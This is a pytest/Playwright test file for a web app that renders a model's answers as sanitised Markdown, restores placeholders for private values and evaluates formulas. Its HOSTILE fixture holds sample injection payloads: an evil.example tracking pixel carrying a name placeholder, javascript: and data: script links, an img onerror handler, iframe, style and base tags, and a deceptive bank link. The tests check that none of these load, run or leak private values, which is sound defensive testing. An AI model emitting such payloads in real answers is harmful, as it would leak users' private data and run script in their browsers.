"""What is said of the model before and after, and the answer itself: as Markdown, safe, and as it arrives."""

import re

import pytest

NAME = "Thessaly Quornbeck"
TEXT = f"{NAME} meets Ambrose Tilling in Marrowgate. Where do they meet?"
MARKDOWN = """\
## Meeting

**<name-1>** meets *<name-2>* in `<location-1>`:

1. first
   - inner
2. second

| Who | Where |
|:----|------:|
| <name-1> | <location-1> |

```python
print("**<name-1>**")
```

> quoted by snake_case_words

[a page](https://evil.example/page) and https://post.example/x.
"""
HOSTILE = """\
![pixel](https://evil.example/pixel.png?q=<name-1>)
![x](data:image/png;base64,AAAA) ![y](//evil.example/y.png)
[click](javascript:window.ran=1) [data](data:text/html,<script>window.ran=2</script>)
[home](https://evil.example/?q=<name-1>) <https://evil.example/<name-1>>
[https://bank.example](https://evil.example/login) [user](https://bank.example@evil.example/)
<img src=x onerror=window.ran=3><iframe src=https://evil.example></iframe><b>bold</b>
<style>body{display:none}</style> <base href=https://evil.example> <!-- c -->
[a]: https://evil.example/ref
[a] [b][a] <a href="https://evil.example">z</a>
"""


def answering(public, text):
    public.reply = lambda request: (
        '{"contradiction": false, "reason": "none"}' if request.get("response_format") else text
    )


def test_before_sending_it_says_which_model_at_which_host_and_after_it_which_answered(page, public, write, send, until):
    host = public.url.split("/")[2]
    assert page.inner_text("#goes-to") == f"Goes to loop-1 at {host}."
    assert page.is_visible("#goes-to") and page.inner_text("#leaving-title") == "What loop-1 gets"
    write(page, TEXT)
    assert public.received == b""
    send(page)
    assert page.inner_text("#run .answered-by") == f"Answered by loop-1 at {host}."
    page.reload()
    until(page, "document.querySelector('#about').textContent")
    page.click("#open-history")
    page.click("#history .entry")
    assert page.inner_text("#turns .answered-by") == f"Answered by loop-1 at {host}.", "kept with the answer"


def test_the_stand_in_says_that_nothing_leaves(browser, watched, home, few_names):
    from gama.state.options import Options
    from tests.support import serving

    with serving.serving(Options(k=1)) as running:
        other = type(watched)(browser, running.url)
        page = other.page()
        assert "stand-in on this server" in page.inner_text("#goes-to") and "nothing leaves" in page.inner_text(
            "#goes-to"
        )
        assert page.inner_text("#leaving-title") == "What leaves"
        other.close()


def test_an_answer_is_read_as_markdown(page, public, write, send):
    answering(public, MARKDOWN)
    write(page, TEXT)
    send(page)
    box = page.locator("#run .answer-text")
    assert box.locator("h3").inner_text() == "Meeting" and box.locator("strong").inner_text() == NAME
    assert box.locator("em").inner_text() == "Ambrose Tilling" and box.locator("p > code").inner_text() == "Marrowgate"
    assert box.locator("ol > li").count() == 2 and box.locator("ol > li > ul > li").inner_text() == "inner"
    assert [one.inner_text() for one in box.locator("tbody td").all()] == [NAME, "Marrowgate"]
    assert box.locator("thead th").count() == 2 and box.locator("td.end").count() == 1
    assert box.locator("pre code").inner_text() == f'print("**{NAME}**")', "code is taken as it is"
    assert "snake_case_words" in box.locator("blockquote").inner_text()
    assert box.locator("mark.restored").count() == 6
    page.click("#run .code button")
    assert page.evaluate("navigator.clipboard.readText()") == f'print("**{NAME}**")'
    for link in box.locator("a").all():
        assert set(link.get_attribute("rel").split()) >= {"noopener", "noreferrer"}
        assert link.get_attribute("target") == "_blank" and link.get_attribute("referrerpolicy") == "no-referrer"
    assert [one.get_attribute("href") for one in box.locator("a").all()] == [
        "https://evil.example/page",
        "https://post.example/x",
    ]
    assert "a page (evil.example)" in box.inner_text(), "a link says where it leads"
    page.click("text=Copy answer")
    assert page.evaluate("navigator.clipboard.readText()").startswith(f"## Meeting\n\n**{NAME}** meets")


def test_a_hostile_answer_loads_nothing_and_runs_nothing(page, watched, public, write, send):
    answering(public, HOSTILE)
    write(page, TEXT)
    send(page)
    page.wait_for_timeout(300)
    assert not watched.foreign and page.evaluate("window.ran") is None
    box = page.locator("#run .answer-text")
    assert page.locator("main img, main iframe, main style, main base, main script, #run b").count() == 0
    assert "Picture, not loaded: x" in box.inner_text() and "<iframe src=" in box.inner_text()
    # Values are not put into addresses of a host that nobody named: the placeholder stays, and ends the address.
    assert "pixel.png?q=<name-1>" in box.inner_text()
    hrefs = [one.get_attribute("href") for one in page.locator("#run a").all()]
    assert hrefs and set(hrefs) <= {
        f"https://evil.example/{end}" for end in ("login", "ref", "", "pixel.png?q=", "?q=")
    }
    assert not any(re.search("Thessaly|Quornbeck|name-1", href) for href in hrefs)
    assert "https://bank.example (evil.example)" in box.inner_text(), "a link that lies says where it leads"


def test_a_private_value_is_never_read_as_markdown(page, public, write, send, until):
    write(page, f"*_Falcon_* [x] and {NAME}.")
    page.click("#to-check")
    page.wait_for_selector("#checked .span")
    page.evaluate(
        """() => { const node = document.querySelector('#checked').firstChild; const range = document.createRange();
          range.setStart(node, 0); range.setEnd(node, 14); getSelection().removeAllRanges(); getSelection().addRange(range); }"""
    )
    page.click("#inspector >> text=Hide it")
    until(page, "document.querySelector('#leaving-text').textContent.startsWith('<id_number-1> and')")
    answering(public, "It is **<id_number-1>**(https://evil.example/).")
    page.click("#send")
    page.wait_for_selector("#run .answer-text")
    box = page.locator("#run .answer-text")
    assert box.inner_text() == "It is *_Falcon_* [x](https://evil.example/)."
    assert box.locator("a").inner_text() == "https://evil.example/" and box.locator("em").count() == 0
    assert box.locator("strong mark").count() == 1


def test_the_first_experts_answer_is_shown_while_the_others_are_asked(page, public, write):
    public.faults = [None, "hold"]
    answering(public, "In **<location-1>**, says <name-1>.")
    write(
        page,
        f"{TEXT} The lease of the flat names a rent: may the landlord sue the tenant in court, and what does the bank pay?",
    )
    page.keyboard.press("Control+Enter")
    page.wait_for_selector("#checker:not([hidden])")
    page.keyboard.press("Control+Enter")
    page.wait_for_selector("#run .draft:not([hidden])")
    told = page.inner_text("#run .draft")
    assert told.startswith("Draft: what the expert for") and "still being checked" in told
    assert page.inner_text("#run .answer-draft") == f"In Marrowgate, says {NAME}."
    assert page.locator("#run .answer-draft strong mark.restored").count() == 1
    page.click("#stop")
    page.wait_for_selector("#problem p")
    assert page.locator("#run .draft").count() == 0, "what was never checked does not stay as an answer"


# Markdown, by the text that is given and the HTML that comes of it.
CASES = [
    ("a\nb", "<p>a<br>b</p>"),
    ("**a *b* c** ~~d~~ ~e~", "<p><strong>a <em>b</em> c</strong> <del>d</del> ~e~</p>"),
    ("2 * 3 * 4 and a_b_c", "<p>2 * 3 * 4 and a_b_c</p>"),
    (r"\*a\* \<b>", "<p>*a* &lt;b&gt;</p>"),
    ("`` a`b `` `c", "<p><code>a`b</code> `c</p>"),
    ("# A\n### B\n# C", "<h3>A</h3><h4>B</h4><h3>C</h3>"),
    ("- a\n- b\n\nc", "<ul><li>a</li><li>b</li></ul><p>c</p>"),
    ("3. a\n\n   b\n4. c", '<ol start="3"><li><p>a</p><p>b</p></li><li><p>c</p></li></ol>'),
    ("1. a\n  - b\n    - c", '<ol start="1"><li>a<ul><li>b<ul><li>c</li></ul></li></ul></li></ol>'),
    ("In\n2026. was", "<p>In<br>2026. was</p>"),
    ("---", "<hr>"),
    ("> a\n> > b", "<blockquote><p>a</p><blockquote><p>b</p></blockquote></blockquote>"),
    ("a | b\nc | d", "<p>a | b<br>c | d</p>"),
    ("<b>x</b> &amp;", "<p>&lt;b&gt;x&lt;/b&gt; &amp;amp;</p>"),
    ("", ""),
]


def test_markdown_by_cases(page):
    body = """async ([text]) => { const { markdown } = await import('/js/markdown.js');
      const box = document.createElement('div'); box.append(...markdown(text)); return box.innerHTML; }"""
    for text, html in CASES:
        assert page.evaluate(body, [text]) == html, text


@pytest.mark.parametrize(
    "piece",
    ["*a", "**a ", "[", "`a``", "> ", "- ", "[a](", "<https://", "a|", "1. x\n", "| a |\n|-|\n", "_*", "![", "  "],
)
def test_long_answers_take_no_time(page, piece):
    body = """async ([text]) => { const { markdown } = await import('/js/markdown.js');
      const begun = performance.now(); markdown(text); return performance.now() - begun; }"""
    assert page.evaluate(body, [piece * (40_000 // len(piece))]) < 5_000


SUMS = "The rent is £1,350.00, says {name}, and the deposit £2,025.00. How much is it together?"
RECKONED = (
    'Together **{{ <amount-1> + <amount-2> }}**, says <name-1>. {{ if <amount-1> > 1000 then "<name-1> pays *more*." '
    'else "no" }} [see {{ <amount-1> * 2 }}](https://post.example/x) and {{ <amount-1> / 0 }}.'
)


def shown_tips(page):
    return [one for one in page.locator("#run .tip").all() if one.is_visible()]


def test_a_result_tells_its_formula_to_the_pointer_and_to_the_keyboard(page, public, write, send, until):
    answering(public, RECKONED)
    write(page, SUMS.format(name=NAME))
    send(page)
    box = page.locator("#run .answer-text")
    results = box.locator(".reckoned")
    assert [one.inner_text() for one in results.all()] == [
        "£3,375.00", f"{NAME} pays *more*.", "£2,700.00", "[could not be reckoned: it cannot be reckoned with these values]",
    ]  # fmt: skip
    assert box.locator("strong .reckoned").count() == 1 and box.locator("mark.failed").count() == 1
    assert box.locator("mark.restored").count() == 5, "the name that stands alone is marked as ever"
    assert not shown_tips(page)
    results.nth(0).hover()
    (tip,) = shown_tips(page)
    assert (
        tip.get_attribute("role") == "tooltip" and tip.locator("code").inner_text() == "{{ <amount-1> + <amount-2> }}"
    )
    assert "<amount-1> = £1,350.00" in tip.inner_text() and "<amount-2> = £2,025.00" in tip.inner_text()
    tip.hover()
    assert shown_tips(page), "one may go there with the pointer"
    page.keyboard.press("Escape")
    assert not shown_tips(page)
    page.mouse.move(0, 0)
    results.nth(1).focus()
    (tip,) = shown_tips(page)
    assert results.nth(1).get_attribute("aria-describedby") == tip.get_attribute("id")
    page.keyboard.press("Escape")
    assert not shown_tips(page)
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.tagName") == "A", (
        "a link is reached by itself, and tells of what is in it"
    )
    assert "<amount-1> * 2" in shown_tips(page)[0].inner_text()
    page.keyboard.press("Tab")
    (tip,) = shown_tips(page)
    assert "Could not be reckoned here: it cannot be reckoned with these values." in tip.inner_text()
    page.keyboard.press("Escape")
    page.click("text=Copy with placeholders")
    assert page.evaluate("navigator.clipboard.readText()") == RECKONED
    page.click("text=Copy answer")
    assert page.evaluate("navigator.clipboard.readText()").startswith("Together **£3,375.00**, says")
    page.reload()
    until(page, "document.querySelector('#about').textContent")
    page.click("#open-history")
    page.click("#history .entry")
    page.wait_for_selector(".answer-text .reckoned")
    page.focus(".answer-text .reckoned")
    assert page.locator(".answer-text .tip").first.is_visible(), "a kept conversation tells them, too"
